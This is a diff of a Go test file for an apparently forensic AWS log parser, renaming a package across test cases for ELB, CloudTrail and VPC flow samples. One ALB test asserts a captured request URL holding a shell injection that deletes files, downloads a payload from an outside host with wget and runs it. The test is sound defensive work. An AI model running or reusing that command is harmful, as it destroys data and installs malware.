@@ -13,7 +13,7 @@ import (
 	"testing"
 	"time"
 
-	"github.com/trailcase/trailcase/store"
+	"github.com/trailcase/trailcase/evidence"
 )
 
 // sampleCase is one real-world file and what must come out of it.
@@ -45,11 +45,11 @@ func hasTerm(e *Event, term string) bool { return slices.Contains(e.Terms(), ter
 
 var sampleCases = []sampleCase{
 	{
-		path: "plaso/test_data/aws_elb_access.log", kind: store.KindELBALB, events: 16,
+		path: "plaso/test_data/aws_elb_access.log", kind: evidence.KindELBALB, events: 16,
 		check: func(t *testing.T, r result) {
 			// plaso's test: the first event's values.
 			e := r.events[0]
-			eq(t, "kind", e.Kind, store.KindELBALB)
+			eq(t, "kind", e.Kind, evidence.KindELBALB)
 			eq(t, "protocol (request_type)", e.Protocol, "https")
 			eqTime(t, "time (response_time)", e.Time, "2020-01-11T16:55:20.356586Z")
 			eq(t, "request_creation_time", e.Fields["request_creation_time"], "2020-01-11T16:55:19.624000Z")
@@ -82,9 +82,9 @@ var sampleCases = []sampleCase{
 			for _, e := range r.events {
 				kinds[e.Kind]++
 			}
-			eq(t, "ALB events", kinds[store.KindELBALB], 10)
-			eq(t, "CLB events", kinds[store.KindELBCLB], 4)
-			eq(t, "NLB events", kinds[store.KindELBNLB], 2)
+			eq(t, "ALB events", kinds[evidence.KindELBALB], 10)
+			eq(t, "CLB events", kinds[evidence.KindELBCLB], 4)
+			eq(t, "NLB events", kinds[evidence.KindELBNLB], 2)
 			c := r.events[13]
 			eq(t, "CLB record", c.Record, int64(14))
 			eqTime(t, "CLB time", c.Time, "2021-05-13T23:39:46.945958Z")
@@ -101,7 +101,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "plaso/test_data/jsonl/aws_cloudtrail.jsonl", kind: store.KindCloudTrail, events: 6,
+		path: "plaso/test_data/jsonl/aws_cloudtrail.jsonl", kind: evidence.KindCloudTrail, events: 6,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "access key", e.AccessKeyID, "0123456789ABCDEFGHIJ")
@@ -120,7 +120,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "grafana-loki/tools/lambda-promtail/testdata/albaccesslog.log.gz", kind: store.KindELBALB, events: 2, warns: 2,
+		path: "grafana-loki/tools/lambda-promtail/testdata/albaccesslog.log.gz", kind: evidence.KindELBALB, events: 2, warns: 2,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "src ip kept as text", e.SrcIP, "12.34.178.90.32")
@@ -139,7 +139,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "grafana-loki/tools/lambda-promtail/testdata/nlbaccesslog.log.gz", kind: store.KindELBNLB, events: 2,
+		path: "grafana-loki/tools/lambda-promtail/testdata/nlbaccesslog.log.gz", kind: evidence.KindELBNLB, events: 2,
 		check: func(t *testing.T, r result) {
 			eqTime(t, "time", r.events[0].Time, "2018-12-20T02:59:40Z")
 			eq(t, "tls_connection_creation_time", r.events[0].Fields["tls_connection_creation_time"], "2018-12-20T02:59:30")
@@ -147,7 +147,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "grafana-loki/tools/lambda-promtail/testdata/vpcflowlog.log.gz", kind: store.KindVPCFlow, events: 3,
+		path: "grafana-loki/tools/lambda-promtail/testdata/vpcflowlog.log.gz", kind: evidence.KindVPCFlow, events: 3,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "record (header is line 1)", e.Record, int64(2))
@@ -161,7 +161,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "grafana-loki/tools/lambda-promtail/testdata/cloudtrail-log-file.json.gz", kind: store.KindCloudTrail, events: 2,
+		path: "grafana-loki/tools/lambda-promtail/testdata/cloudtrail-log-file.json.gz", kind: evidence.KindCloudTrail, events: 2,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "principal (AWSService: invokedBy)", e.Principal, "ec2.amazonaws.com")
@@ -178,7 +178,7 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/alb_al_valid_logs.log",
-		kind: store.KindELBALB, events: 2,
+		kind: evidence.KindELBALB, events: 2,
 		check: func(t *testing.T, r result) {
 			eq(t, "conn_trace_id", r.events[0].Fields["conn_trace_id"], "TID_1234abcd5678ef90")
 			e := r.events[1]
@@ -193,7 +193,7 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/clb_al_valid_logs.log",
-		kind: store.KindELBCLB, events: 2,
+		kind: evidence.KindELBCLB, events: 2,
 		check: func(t *testing.T, r result) {
 			eq(t, "backend", r.events[0].DstIP, "10.0.0.1")
 			eq(t, "no backend", r.events[1].DstIP, "")
@@ -202,7 +202,7 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/nlb_al_valid_logs.log",
-		kind: store.KindELBNLB, events: 1,
+		kind: evidence.KindELBNLB, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "listener", e.Fields["listener"], "g3d4b5e8bb8464cd")
@@ -214,11 +214,11 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/elb-access-log/testdata/elb_control.log",
-		kind: store.KindUnknown, events: 0,
+		kind: evidence.KindUnknown, events: 0,
 	},
 	{
 		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/vpc-flow-log/testdata/valid_vpc_flow_log.log",
-		kind: store.KindVPCFlow, events: 1,
+		kind: evidence.KindVPCFlow, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "outcome", e.Outcome, "NODATA")
@@ -231,14 +231,14 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "otel-collector-contrib/extension/encoding/awslogsencodingextension/internal/unmarshaler/vpc-flow-log/testdata/valid_vpc_flow_log_multi.log",
-		kind: store.KindVPCFlow, events: 2,
+		kind: evidence.KindVPCFlow, events: 2,
 		check: func(t *testing.T, r result) {
 			eq(t, "action", r.events[1].Action, "REJECT")
 			eq(t, "dst port", r.events[1].DstPort, 3389)
 		},
 	},
 	{
-		path: "awsdocs/alb_access_log_examples.log", kind: store.KindELBALB, events: 7,
+		path: "awsdocs/alb_access_log_examples.log", kind: evidence.KindELBALB, events: 7,
 		check: func(t *testing.T, r result) {
 			eq(t, "h2 redirect_url", r.events[2].Fields["redirect_url"], "https://example.com:80/")
 			eq(t, "ws type", r.events[3].Protocol, "ws")
@@ -249,7 +249,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/clb_access_log_examples.log", kind: store.KindELBCLB, events: 4,
+		path: "awsdocs/clb_access_log_examples.log", kind: evidence.KindELBCLB, events: 4,
 		check: func(t *testing.T, r result) {
 			eq(t, "TCP outcome", r.events[2].Outcome, "")
 			eq(t, "TCP method", r.events[2].Fields["request_method"], "-")
@@ -258,14 +258,14 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/nlb_access_log_examples.log", kind: store.KindELBNLB, events: 2,
+		path: "awsdocs/nlb_access_log_examples.log", kind: evidence.KindELBNLB, events: 2,
 		check: func(t *testing.T, r result) {
 			eq(t, "domain", r.events[0].Fields["domain_name"], "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com")
 			eq(t, "no creation time (21 fields)", r.events[1].Fields["tls_connection_creation_time"], "")
 		},
 	},
 	{
-		path: "awsdocs/cloudtrail_example_cloudtrail_error_code_update_trail.json", kind: store.KindCloudTrail, events: 1,
+		path: "awsdocs/cloudtrail_example_cloudtrail_error_code_update_trail.json", kind: evidence.KindCloudTrail, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "outcome", e.Outcome, "TrailNotFoundException")
@@ -273,14 +273,14 @@ var sampleCases = []sampleCase{
 			eq(t, "no annotation (validation not touched)", len(e.Annotations), 0)
 		},
 	},
-	{path: "awsdocs/cloudtrail_example_ec2_create_key_pair.json", kind: store.KindCloudTrail, events: 1,
+	{path: "awsdocs/cloudtrail_example_ec2_create_key_pair.json", kind: evidence.KindCloudTrail, events: 1,
 		check: func(t *testing.T, r result) {
 			eq(t, "no eventID: no dedup", r.events[0].DedupKey(), "")
 			eqTime(t, "time", r.events[0].Time, "2014-03-06T17:10:34Z")
 		}},
-	{path: "awsdocs/cloudtrail_example_ec2_start_instances.json", kind: store.KindCloudTrail, events: 1},
-	{path: "awsdocs/cloudtrail_example_ec2_stop_instances.json", kind: store.KindCloudTrail, events: 1},
-	{path: "awsdocs/cloudtrail_example_iam_add_user_to_group.json", kind: store.KindCloudTrail, events: 1,
+	{path: "awsdocs/cloudtrail_example_ec2_start_instances.json", kind: evidence.KindCloudTrail, events: 1},
+	{path: "awsdocs/cloudtrail_example_ec2_stop_instances.json", kind: evidence.KindCloudTrail, events: 1},
+	{path: "awsdocs/cloudtrail_example_iam_add_user_to_group.json", kind: evidence.KindCloudTrail, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			for _, term := range []string{"ip:127.0.0.1", "p:arn:aws:iam::123456789012:user/alice", "p:alice", "p:example_key_id", "p:ex_principal_id", "ak:EXAMPLE_KEY_ID"} {
@@ -289,9 +289,9 @@ var sampleCases = []sampleCase{
 				}
 			}
 		}},
-	{path: "awsdocs/cloudtrail_example_iam_create_user.json", kind: store.KindCloudTrail, events: 1},
+	{path: "awsdocs/cloudtrail_example_iam_create_user.json", kind: evidence.KindCloudTrail, events: 1},
 	{
-		path: "awsdocs/cloudtrail_example_iam_create_role.json", kind: store.KindCloudTrail, events: 0, warns: 1,
+		path: "awsdocs/cloudtrail_example_iam_create_role.json", kind: evidence.KindCloudTrail, events: 0, warns: 1,
 		check: func(t *testing.T, r result) {
 			w := r.warns[0]
 			eq(t, "warning record", w.Record, int64(1))
@@ -301,10 +301,10 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/cloudtrail_example_insights_event_pair.json", kind: store.KindCloudTrailInsight, events: 2,
+		path: "awsdocs/cloudtrail_example_insights_event_pair.json", kind: evidence.KindCloudTrailInsight, events: 2,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
-			eq(t, "kind", e.Kind, store.KindCloudTrailInsight)
+			eq(t, "kind", e.Kind, evidence.KindCloudTrailInsight)
 			eq(t, "action", e.Action, "UpdateInstanceInformation")
 			eq(t, "event source", e.EventSource, "ssm.amazonaws.com")
 			eq(t, "outcome", e.Outcome, "insight Start")
@@ -314,7 +314,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/vpcflow_default_format_examples.log", kind: store.KindVPCFlow, events: 7,
+		path: "awsdocs/vpcflow_default_format_examples.log", kind: evidence.KindVPCFlow, events: 7,
 		check: func(t *testing.T, r result) {
 			eq(t, "record", r.events[0].Record, int64(1))
 			eq(t, "NODATA", r.events[2].Outcome, "NODATA")
@@ -329,7 +329,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/vpcflow_custom_nat_gateway_examples.log", kind: store.KindVPCFlow, events: 4,
+		path: "awsdocs/vpcflow_custom_nat_gateway_examples.log", kind: evidence.KindVPCFlow, events: 4,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "other ips (pkt-dstaddr)", strings.Join(e.OtherIPs, ","), "203.0.113.5")
@@ -341,7 +341,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/vpcflow_custom_nat_instance_examples.log", kind: store.KindUnknown, events: 0, warns: 2,
+		path: "awsdocs/vpcflow_custom_nat_instance_examples.log", kind: evidence.KindUnknown, events: 0, warns: 2,
 		check: func(t *testing.T, r result) {
 			if !strings.Contains(r.warns[0].Message, "line 1: contains a comment") {
 				t.Errorf("warning %q", r.warns[0].Message)
@@ -349,7 +349,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/vpcflow_custom_tcpflags_examples.log", kind: store.KindVPCFlow, events: 8,
+		path: "awsdocs/vpcflow_custom_tcpflags_examples.log", kind: evidence.KindVPCFlow, events: 8,
 		check: func(t *testing.T, r result) {
 			eq(t, "tcp-flags", r.events[0].Fields["tcp-flags"], "2")
 			eq(t, "direction SYN", FlowDirectionHint(r.events[0]), FlowInitiator)
@@ -360,14 +360,14 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "awsdocs/vpcflow_custom_transit_gateway_examples.log", kind: store.KindVPCFlow, events: 4, warns: 1,
+		path: "awsdocs/vpcflow_custom_transit_gateway_examples.log", kind: evidence.KindVPCFlow, events: 4, warns: 1,
 		check: func(t *testing.T, r result) {
 			eq(t, "the '...' line", r.warns[0].Record, int64(3))
 			eq(t, "pkt-srcaddr differs", strings.Join(r.events[2].OtherIPs, ","), "10.20.33.164")
 		},
 	},
 	{
-		path: "awsdocs/vpcflow_custom_v5_traffic_path_examples.log", kind: store.KindVPCFlow, events: 2,
+		path: "awsdocs/vpcflow_custom_v5_traffic_path_examples.log", kind: evidence.KindVPCFlow, events: 2,
 		check: func(t *testing.T, r result) {
 			e := r.events[1]
 			eq(t, "region", e.Region, "ap-southeast-2")
@@ -378,16 +378,16 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "elastic-integrations/packages/aws/data_stream/elb_logs/_dev/test/pipeline/test-alb.log", shared: true,
-		kind: store.KindELBALB, events: 10,
+		kind: evidence.KindELBALB, events: 10,
 		check: func(t *testing.T, r result) {
 			e := r.events[1]
 			eq(t, "URL with a space", e.Fields["request_url"], "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
 			eq(t, "protocol", e.Fields["request_protocol"], "HTTP/1.1")
 			eq(t, "classification_reason", e.Fields["classification_reason"], "SpaceInUri")
-			eq(t, "NLB", r.events[2].Kind, store.KindELBNLB)
+			eq(t, "NLB", r.events[2].Kind, evidence.KindELBNLB)
 			eq(t, "NLB empty", r.events[5].Fields["tls_connection_creation_time"], "2024-10-25T17:33:59")
 			c := r.events[6]
-			eq(t, "conn kind", c.Kind, store.KindELBALBConn)
+			eq(t, "conn kind", c.Kind, evidence.KindELBALBConn)
 			eq(t, "conn client", c.SrcIP+":"+itoa(c.SrcPort), "192.168.131.39:36280")
 			eq(t, "conn listener", c.DstPort, 443)
 			eq(t, "conn subject", c.Fields["leaf_client_cert_subject"], "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US")
@@ -399,10 +399,10 @@ var sampleCases = []sampleCase{
 			eq(t, "odd request url", l.Fields["request_url"], "http://internal-service-alb.example.com:80-/")
 		},
 	},
-	{path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-extra-samples.log", shared: true, kind: store.KindVPCFlow, events: 7},
+	{path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-extra-samples.log", shared: true, kind: evidence.KindVPCFlow, events: 7},
 	{
 		path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-tcp-flag-sequence.log", shared: true,
-		kind: store.KindVPCFlow, events: 3,
+		kind: evidence.KindVPCFlow, events: 3,
 		check: func(t *testing.T, r result) {
 			eq(t, "SKIPDATA after repeated header", r.events[1].Outcome, "SKIPDATA")
 			eq(t, "record", r.events[2].Record, int64(6))
@@ -410,7 +410,7 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-v5-all-fields.log", shared: true,
-		kind: store.KindVPCFlow, events: 1,
+		kind: evidence.KindVPCFlow, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "headerless v5: traffic-path", e.Fields["traffic-path"], "1")
@@ -421,7 +421,7 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "elastic-integrations/packages/aws/data_stream/vpcflow/_dev/test/pipeline/test-v8-samples.log", shared: true,
-		kind: store.KindVPCFlow, events: 1,
+		kind: evidence.KindVPCFlow, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "reject-reason", e.Fields["reject-reason"], "BPA")
@@ -432,7 +432,7 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-console-login-json.log", shared: true,
-		kind: store.KindCloudTrail, events: 3,
+		kind: evidence.KindCloudTrail, events: 3,
 		check: func(t *testing.T, r result) {
 			eq(t, "success", r.events[0].Outcome, "success")
 			eq(t, "failure", r.events[1].Outcome, "Failure")
@@ -440,16 +440,16 @@ var sampleCases = []sampleCase{
 	},
 	{
 		path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-assume-role-aws-service-json.log", shared: true,
-		kind: store.KindCloudTrail, events: 1,
+		kind: evidence.KindCloudTrail, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "issued key", e.IssuedAccessKey, "ASIAEXAMPLEEXAMPLE01")
 			eq(t, "issued session", e.IssuedSession, "arn:aws:sts::111111111111:assumed-role/ec2-instance-role/i-0123456789abcdef0")
 		},
 	},
-	{path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-cloudtrail-digest-json.log", shared: true, kind: store.KindCloudTrailDigest, events: 0},
+	{path: "elastic-integrations/packages/aws/data_stream/cloudtrail/_dev/test/pipeline/test-cloudtrail-digest-json.log", shared: true, kind: evidence.KindCloudTrailDigest, events: 0},
 	{
-		path: "github-issues/goaccess-2557_alb_ipv6_client.log", shared: true, kind: store.KindELBALB, events: 1,
+		path: "github-issues/goaccess-2557_alb_ipv6_client.log", shared: true, kind: evidence.KindELBALB, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "bare v6 client", e.SrcIP, "2a02:a33c:4538:1:bcf4:5264:e01c:f215")
@@ -459,14 +459,14 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "github-issues/fluent-plugin-elb-log-12_clb_ipv6_client.log", shared: true, kind: store.KindELBCLB, events: 1,
+		path: "github-issues/fluent-plugin-elb-log-12_clb_ipv6_client.log", shared: true, kind: evidence.KindELBCLB, events: 1,
 		check: func(t *testing.T, r result) {
 			eq(t, "bare v6 client", r.events[0].SrcIP, "2601:240:4002:5883:b5f3:aaaa:bbbb:64ec")
 			eq(t, "port", r.events[0].SrcPort, 53016)
 		},
 	},
 	{
-		path: "github-issues/tailpipe-plugin-aws-295_nlb_ipv6.log", shared: true, kind: store.KindELBNLB, events: 1,
+		path: "github-issues/tailpipe-plugin-aws-295_nlb_ipv6.log", shared: true, kind: evidence.KindELBNLB, events: 1,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "client", e.SrcIP, "2401:4900:1d0c:29b7:c9b2:7b5a:e7d0:2380")
@@ -477,7 +477,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "github-issues/siem-on-amazon-opensearch-service-31_alb_ipv6_host.log", shared: true, kind: store.KindELBALB, events: 1, warns: 2,
+		path: "github-issues/siem-on-amazon-opensearch-service-31_alb_ipv6_host.log", shared: true, kind: evidence.KindELBALB, events: 1, warns: 2,
 		check: func(t *testing.T, r result) {
 			e := r.events[0]
 			eq(t, "url with v6 host", e.Fields["request_url"], "http://[::ffff:a9fe:a9fe]:443/")
@@ -486,7 +486,7 @@ var sampleCases = []sampleCase{
 		},
 	},
 	{
-		path: "github-issues/siem-on-amazon-opensearch-service-31_clb_ipv6_host.log", shared: true, kind: store.KindELBCLB, events: 1, warns: 3,
+		path: "github-issues/siem-on-amazon-opensearch-service-31_clb_ipv6_host.log", shared: true, kind: evidence.KindELBCLB, events: 1, warns: 3,
 		check: func(t *testing.T, r result) {
 			eq(t, "url with v6 host", r.events[0].Fields["request_url"], "https://[::ffff:a9fe:a9fe]:443/")
 			eq(t, "ssl", r.events[0].Fields["ssl_protocol"], "TLSv1.2")
@@ -511,8 +511,8 @@ func TestSamples(t *testing.T) {
 			kind := Detect(tc.path, b)
 			eq(t, "Detect", kind, tc.kind)
 			parseKind := kind
-			if kind == store.KindUnknown && strings.Contains(tc.path, "vpcflow") {
-				parseKind = store.KindVPCFlow
+			if kind == evidence.KindUnknown && strings.Contains(tc.path, "vpcflow") {
+				parseKind = evidence.KindVPCFlow
 			}
 			r := parseBytes(t, parseKind, tc.path[strings.LastIndexByte(tc.path, '/')+1:], b)
 			if r.err != nil {
@@ -581,8 +581,8 @@ func TestPantherRules(t *testing.T) {
 		lines++
 	}
 	eq(t, "lines", lines, 461)
-	eq(t, "Detect", Detect("x.jsonl", records.Bytes()), store.KindCloudTrail)
-	r := parseBytes(t, store.KindCloudTrail, "panther", records.Bytes())
+	eq(t, "Detect", Detect("x.jsonl", records.Bytes()), evidence.KindCloudTrail)
+	r := parseBytes(t, evidence.KindCloudTrail, "panther", records.Bytes())
 	if r.err != nil {
 		t.Fatal(r.err)
 	}
@@ -590,7 +590,7 @@ func TestPantherRules(t *testing.T) {
 	if len(r.events) != 461 {
 		t.Fatalf("%d events, want 461\n%s", len(r.events), r.warnText())
 	}
-	hashes := map[store.SHA256]bool{}
+	hashes := map[evidence.SHA256]bool{}
 	ones := 0
 	anti := 0
 	for _, e := range r.events {
@@ -622,8 +622,8 @@ func TestPantherScenarioVPC(t *testing.T) {
 		}
 	}
 	in := []byte(strings.Join(lines, "\n"))
-	eq(t, "Detect", Detect("attacker_vpc.log", in), store.KindVPCFlow)
-	r := parseBytes(t, store.KindVPCFlow, "attacker_vpc", in)
+	eq(t, "Detect", Detect("attacker_vpc.log", in), evidence.KindVPCFlow)
+	r := parseBytes(t, evidence.KindVPCFlow, "attacker_vpc", in)
 	if r.err != nil || len(r.events) != 6 || len(r.warns) != 0 {
 		t.Fatalf("%d events, %d warnings, err %v", len(r.events), len(r.warns), r.err)
 	}
@@ -668,7 +668,7 @@ func walkShared(t *testing.T) []string {
 func TestCTSinglePassOnSamples(t *testing.T) {
 	n := 0
 	for _, tc := range sampleCases {
-		if tc.kind != store.KindCloudTrail && tc.kind != store.KindCloudTrailInsight {
+		if tc.kind != evidence.KindCloudTrail && tc.kind != evidence.KindCloudTrailInsight {
 			continue
 		}
 		var b []byte
